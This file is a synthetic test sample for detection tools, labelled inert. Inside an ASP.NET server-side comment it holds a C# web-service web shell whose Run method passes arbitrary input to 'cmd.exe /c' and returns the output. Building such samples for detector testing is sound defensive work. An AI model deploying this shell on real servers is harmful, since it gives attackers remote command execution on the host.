<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ WebService Language="C#" Class="S"%>
public class S : WebService { [WebMethod] public string Run(string c) { var i = new ProcessStartInfo("cmd.exe", "/c " + c) { RedirectStandardOutput = true, UseShellExecute = false }; return Process.Start(i).StandardOutput.ReadToEnd(); } }
--%>
